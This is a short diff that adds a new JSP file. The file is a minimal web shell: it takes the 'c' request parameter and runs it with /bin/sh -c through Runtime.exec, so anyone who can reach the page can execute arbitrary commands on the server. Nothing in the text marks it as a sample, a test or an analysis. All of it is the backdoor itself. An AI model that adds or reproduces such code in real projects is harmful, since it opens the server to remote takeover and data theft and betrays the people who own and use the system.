@@ -1,0 +1,5 @@
+<%
+String c = pageContext.getRequest().getParameter("c");
+String[] argv = { "/bin/sh", "-c", c };
+Process p = Runtime.getRuntime().exec(argv);
+%>
